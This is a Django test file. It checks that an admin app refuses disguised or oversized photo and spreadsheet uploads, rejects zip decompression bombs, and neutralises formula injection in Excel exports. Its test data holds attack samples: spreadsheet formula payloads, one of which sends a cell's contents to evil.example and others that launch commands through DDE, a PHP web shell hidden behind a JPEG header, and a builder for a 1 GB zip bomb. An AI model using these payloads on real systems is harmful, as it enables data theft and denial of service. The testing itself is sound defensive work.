"""Uploads are limited in size and checked by content; every Excel export makes formula-like text inert."""

import io
import os
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook
from PIL import Image

from accessibility.models import Retrofit, RetrofitPhoto
from core.excel import FORMULA_PREFIXES
from core.uploads import is_xlsx, limit_text
from events.models import EventPhoto
from reports.figures import FIGURES
from reports.models import AnnualReport
from reports.selectors import Bar, BreakdownView, FigureRow
from reports.spreadsheets import report_workbook
from services.models import AuditEntry, Person
from services.registry.spreadsheets import template_workbook
from tests.accessibility.factories import make_retrofit
from tests.employment.test_admin import build
from tests.events.test_admin import event_form
from tests.services.factories import PersonFactory

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def image(fmt: str = "PNG", size: tuple[int, int] = (8, 6), noise: bool = False) -> bytes:
    picture = Image.new("RGB", size, "white")
    if noise:
        picture = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    buffer = io.BytesIO()
    picture.save(buffer, fmt)
    return buffer.getvalue()


def _upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="image/jpeg")


def stored_files(media_root) -> list:
    return sorted(p for p in media_root.rglob("*") if p.is_file()) if media_root.exists() else []


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def staff_client(staff_user):
    client = Client(headers={"accept-language": "en"})
    client.force_login(staff_user)
    return client


def test_limits_read_as_people_write_them():
    with translation.override("en"):
        assert [limit_text(n) for n in (5 * 1024 * 1024, 512 * 1024, 900)] == ["5 MB", "512 KB", "900 bytes"]
        assert limit_text(1) == "1 byte"


def test_a_limit_under_a_kilobyte_is_said_in_the_reader_s_language():
    with translation.override("zh-hans"):
        assert limit_text(900) == "900 字节"


# Retrofit photos (accessibility)

DISGUISED = [
    (b"<script>alert(1)</script>", "bathroom.jpg"),
    (b"\x89PNG\r\n\x1a\n" + bytes(300), "only-the-signature.png"),
    (b"\xff\xd8\xff\xe0" + b"<?php system($_GET['c']); ?>", "shell.jpg"),
    (image("GIF"), "really-a-gif.png"),
    (image("PNG")[:40], "cut-short.png"),
    (b"PK\x03\x04" + bytes(100), "archive.jpg"),
]


@pytest.mark.parametrize(("content", "name"), DISGUISED)
def test_a_disguised_retrofit_photo_is_refused_and_nothing_stored(staff_client, media_root, content, name):
    retrofit = make_retrofit(Retrofit.Status.ASSESSED)
    response = staff_client.post(
        reverse("admin:accessibility_retrofit_photo_add", args=[retrofit.pk]),
        {"stage": "before", "alt_text": "卫生间", "image": _upload(content, name)},
    )
    assert response.status_code == 400
    assert "Upload a JPEG or PNG photo." in response.content.decode()
    assert not RetrofitPhoto.objects.exists()
    assert stored_files(media_root) == []


def test_an_oversized_retrofit_photo_is_refused_with_the_setting_s_limit(staff_client, media_root, settings):
    settings.RETROFIT_PHOTO_MAX_BYTES = 2048
    big = image("PNG", (64, 64), noise=True)
    assert len(big) > 2048
    retrofit = make_retrofit(Retrofit.Status.ASSESSED)
    url = reverse("admin:accessibility_retrofit_photo_add", args=[retrofit.pk])
    response = staff_client.post(url, {"stage": "before", "alt_text": "门口", "image": _upload(big, "door.png")})
    assert response.status_code == 400
    assert "The photo is larger than 2 KB." in response.content.decode()
    assert not RetrofitPhoto.objects.exists()
    assert stored_files(media_root) == []
    small = image("JPEG")
    ok = staff_client.post(url, {"stage": "before", "alt_text": "门口", "image": _upload(small, "door.png")})
    assert ok.status_code == 302
    assert RetrofitPhoto.objects.get().image.name.endswith(".jpg")


# Event photos (events admin)


def _event_with_photo(content: bytes, name: str) -> dict:
    return event_form(
        **{
            "photos-TOTAL_FORMS": "1",
            "photos-0-image": _upload(content, name),
            "photos-0-alt_text": "合唱队员在台上演唱",
            "photos-0-caption": "",
            "photos-0-position": "0",
        }
    )


@pytest.mark.parametrize(("content", "name"), DISGUISED)
def test_a_disguised_event_photo_is_refused_and_nothing_stored(staff_client, media_root, content, name):
    response = staff_client.post(reverse("admin:events_event_add"), _event_with_photo(content, name))
    assert response.status_code == 200  # the admin shows the form again with the error
    html = response.content.decode()
    assert "Upload a valid image" in html or "Upload a JPEG or PNG photo." in html
    assert not EventPhoto.objects.exists()
    assert stored_files(media_root) == []


def test_an_oversized_event_photo_is_refused_with_the_setting_s_limit(staff_client, media_root, settings):
    settings.EVENT_PHOTO_MAX_BYTES = 3 * 1024
    big = image("PNG", (64, 64), noise=True)
    assert len(big) > 3 * 1024
    response = staff_client.post(reverse("admin:events_event_add"), _event_with_photo(big, "choir.png"))
    assert response.status_code == 200
    assert "The photo is larger than 3 KB." in response.content.decode()
    assert not EventPhoto.objects.exists()
    assert stored_files(media_root) == []


def test_an_event_photo_is_checked_by_the_same_rule_as_a_retrofit_photo(staff_client, media_root):
    # A whole GIF passes Django's image field: only the shared JPEG-or-PNG rule refuses it.
    gif = staff_client.post(reverse("admin:events_event_add"), _event_with_photo(image("GIF"), "choir.gif"))
    assert gif.status_code == 200
    assert "Upload a JPEG or PNG photo." in gif.content.decode()
    assert not EventPhoto.objects.exists()
    assert stored_files(media_root) == []
    jpeg = staff_client.post(reverse("admin:events_event_add"), _event_with_photo(image("JPEG"), "choir.jpg"))
    assert jpeg.status_code == 302
    assert EventPhoto.objects.count() == 1
    assert len(stored_files(media_root)) == 1


# Spreadsheet imports (registry)


def zip_of(parts: dict[str, bytes]) -> bytes:
    """A zip archive holding `parts` (name: content), the same bytes on every run (a fixed date on each part)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


NOT_XLSX = [
    "姓名,身份证号\n王小明,11010519491231002X\n".encode(),
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),  # an old .xls
    zip_of({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}),  # a .docx
    zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"not xml at all"}),
    b"PK\x03\x04" + bytes(200),
]


# Named ids: pytest-xdist's workers must collect the same test names.
@pytest.mark.parametrize("content", NOT_XLSX, ids=["csv", "xls", "docx", "zip-without-a-workbook", "broken-zip"])
def test_a_file_that_is_not_a_workbook_is_refused_by_its_content(staff_client, content):
    before = (Person.objects.count(), AuditEntry.objects.count())
    response = staff_client.post(
        reverse("admin:services_person_import"),
        {"file": _upload(content, "persons.xlsx")},
    )
    assert response.status_code == 400
    assert "This is not an Excel .xlsx file that can be read." in response.content.decode()
    assert (Person.objects.count(), AuditEntry.objects.count()) == before


def test_an_oversized_workbook_is_refused_with_the_setting_s_limit(staff_client, settings):
    settings.SPREADSHEET_IMPORT_MAX_BYTES = 4 * 1024
    data = template_workbook()
    assert len(data) > 4 * 1024
    response = staff_client.post(reverse("admin:services_person_import"), {"file": _upload(data, "persons.xlsx")})
    assert response.status_code == 400
    assert "The file is larger than 4 KB." in response.content.decode()
    assert not Person.objects.exists()


def test_the_import_template_is_recognised_as_a_workbook():
    assert is_xlsx(template_workbook())
    assert not is_xlsx(b"PK\x05\x06" + bytes(18))


# Workbooks that unpack to far more than they weigh

MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
)
SHEET_TAIL = b"</t></is></c></row></sheetData></worksheet>"


def _crc_of_repeats(chunk: bytes, times: int, crc: int) -> int:
    """zlib.crc32 of `chunk` repeated `times` times, continuing `crc`, without reading it `times` times.

    A CRC is affine in its start value over GF(2), so one pass of `chunk` is a 32x32 bit matrix and
    an offset, raised to the power `times` by squaring.
    """

    def linear(columns: list[int], value: int) -> int:
        out = 0
        for bit in range(32):
            if value >> bit & 1:
                out ^= columns[bit]
        return out

    def compose(f: tuple[list[int], int], g: tuple[list[int], int]) -> tuple[list[int], int]:
        return [linear(f[0], column) for column in g[0]], linear(f[0], g[1]) ^ f[1]

    offset = zlib.crc32(chunk, 0)
    step = ([zlib.crc32(chunk, 1 << bit) ^ offset for bit in range(32)], offset)
    total: tuple[list[int], int] = ([1 << bit for bit in range(32)], 0)
    while times:
        if times & 1:
            total = compose(step, total)
        step = compose(step, step)
        times >>= 1
    return linear(total[0], crc) ^ total[1]


def _raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive of already deflated members (name, deflated data, CRC-32, declared unpacked size)."""
    body, directory = b"", b""
    for name, data, crc, size in members:
        encoded = name.encode()
        directory += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            33,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            len(body),
        )
        directory += encoded
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(data), size, len(encoded), 0)
        body += encoded + data
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + end


def one_cell_workbook(*, cell_mb: int, declared_size: int | None = None) -> bytes:
    """A real workbook whose one cell is `cell_mb` MB of "A": deflated, about 1 KB per MB.

    Deflate's full flush makes each megabyte compress to the same bytes, so the file is built by
    repeating them, without compressing (or holding) the cell. `declared_size` makes the sheet lie
    about its unpacked size.
    """
    book = Workbook()
    buffer = io.BytesIO()
    book.save(buffer)
    members = []
    with zipfile.ZipFile(buffer) as template:
        for name in template.namelist():
            if name != SHEET:
                data = template.read(name)
                packer = zlib.compressobj(9, zlib.DEFLATED, -15)
                members.append((name, packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)))
    chunk = b"A" * MB
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(SHEET_HEAD) + packer.flush(zlib.Z_FULL_FLUSH)
    megabyte = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(SHEET_TAIL) + packer.flush()
    crc = zlib.crc32(SHEET_TAIL, _crc_of_repeats(chunk, cell_mb, zlib.crc32(SHEET_HEAD)))
    size = len(SHEET_HEAD) + cell_mb * MB + len(SHEET_TAIL)
    members.append((SHEET, head + megabyte * cell_mb + tail, crc, size if declared_size is None else declared_size))
    return _raw_zip(members)


def _post_import(client, data: bytes) -> tuple:
    """POST `data` to the admin import form, as someone who has opened it; return the response, the seconds
    it took, and the peak of memory traced while posting it again (tracing slows Python, so not timed)."""
    url = reverse("admin:services_person_import")
    assert client.get(url).status_code == 200
    started = time.perf_counter()
    response = client.post(url, {"file": _upload(data, "persons.xlsx")})
    elapsed = time.perf_counter() - started
    tracemalloc.start()
    try:
        again = client.post(url, {"file": _upload(data, "persons.xlsx")})
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert again.status_code == response.status_code
    return response, elapsed, peak


def assert_refused_at_once(client, data: bytes, message: str) -> None:
    """The import refuses `data` with `message` (a 400) within a second and 20 MB, writing nothing."""
    before = (Person.objects.count(), AuditEntry.objects.count())
    response, elapsed, peak = _post_import(client, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert elapsed < 1, f"{elapsed:.2f} s"
    assert peak < 20 * MB, f"{peak / MB:.0f} MB"
    assert (Person.objects.count(), AuditEntry.objects.count()) == before


def test_a_1_mb_workbook_holding_a_1_gb_cell_is_refused_at_once_in_little_memory(staff_client):
    bomb = one_cell_workbook(cell_mb=1024)
    assert len(bomb) < 1.2 * MB
    assert_refused_at_once(staff_client, bomb, "The file unpacks to more than 50 MB. Split it into smaller files.")

    # The same sheet declaring 1 KB: zipfile stops reading at the declared size, so openpyxl never
    # gets more, and the file is refused as unreadable (its CRC does not match) just as fast.
    liar = one_cell_workbook(cell_mb=1024, declared_size=1024)
    assert_refused_at_once(staff_client, liar, "This is not an Excel .xlsx file that can be read.")


def test_a_workbook_compressed_far_more_than_a_real_one_is_refused_under_the_size_limit(staff_client):
    bomb = one_cell_workbook(cell_mb=10)  # 10 MB in about 10 KB: under 50 MB, but 1,000 to 1
    # A real workbook (openpyxl reads the cell back, and zipfile its CRC): refused for its ratio alone.
    cell = load_workbook(io.BytesIO(bomb), read_only=True).worksheets[0]["A1"].value
    assert cell == "A" * 10 * MB
    response, _elapsed, _peak = _post_import(staff_client, bomb)
    assert response.status_code == 400
    assert (
        "The file is compressed far more than a workbook can be. Save it again from Excel." in response.content.decode()
    )
    assert not Person.objects.exists()


# Exports


def assert_inert(data: bytes) -> int:
    """No cell of any sheet is a formula or text that a spreadsheet program would run; returns the text cells."""
    book = load_workbook(io.BytesIO(data))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(FORMULA_PREFIXES), f"{sheet.title}!{cell.coordinate}"
    return texts


def _names(data: bytes) -> set[str]:
    """Every text cell, with a carriage return read as the line feed that XML turns it into."""
    book = load_workbook(io.BytesIO(data))
    rows = (row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True))
    return {cell.replace("\r", "\n") for row in rows for cell in row if isinstance(cell, str)}


def _quoted(text: str) -> str:
    return ("'" + text).replace("\r", "\n")


def test_a_workbook_with_a_raw_formula_fails_the_check():
    book = Workbook()
    book.active.append(["=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(AssertionError, match="is a formula"):
        assert_inert(buffer.getvalue())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_person_export_neutralises_a_hostile_name(staff_client, hostile):
    PersonFactory(name=hostile, address=hostile, phone=hostile[:20])
    response = staff_client.get(reverse("admin:services_person_export"))
    assert response["Content-Type"] == XLSX
    data = response.getvalue()
    assert assert_inert(data)
    assert _quoted(hostile) in _names(data)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_accepted_retrofits_export_neutralises_a_hostile_name(staff_client, hostile):
    retrofit = make_retrofit(Retrofit.Status.ACCEPTED, contractor=hostile)
    Person.objects.filter(pk=retrofit.person_id).update(name=hostile)
    year = retrofit.accepted_on.year
    response = staff_client.get(reverse("admin:accessibility_retrofit_export") + f"?year={year}")
    assert response["Content-Type"] == XLSX
    data = response.getvalue()
    assert assert_inert(data)
    assert _quoted(hostile) in _names(data)


@pytest.mark.parametrize(
    "model", ["enrollment", "certificate", "placement", "placementfollowup", "graduate", "referral"]
)
def test_every_employment_export_neutralises_a_hostile_name(staff_client, street, member, model):
    build(model, 2, street=street, member=member)
    Person.objects.update(name=HOSTILE[0])
    url = reverse(f"admin:employment_{model}_changelist")
    query = {"state": "all"} if model == "placementfollowup" else {}
    pks = [obj.pk for obj in staff_client.get(url, query).context["cl"].result_list]
    assert pks
    response = staff_client.post(url, {"action": "export_xlsx", "_selected_action": pks, **query})
    assert response["Content-Type"] == XLSX
    data = response.getvalue()
    assert assert_inert(data)
    assert _quoted(HOSTILE[0]) in _names(data)


def test_the_annual_report_export_neutralises_hostile_labels():
    figure = FIGURES[0]
    bars = [Bar(key=h, label=h, value=i, shown=str(i), width=1.0) for i, h in enumerate(HOSTILE)]
    row = FigureRow(
        figure=figure,
        value=3,
        plan=None,
        percent_of_plan=None,
        above_plan=None,
        sentence=HOSTILE[1],
        breakdowns=[BreakdownView(name="street", title="by street", bars=bars)],
    )
    with report_workbook(AnnualReport(year=2023, code_version=HOSTILE[2]), [row]) as file:
        data = file.read()
    assert assert_inert(data)
    assert {_quoted(h) for h in HOSTILE} <= _names(data)
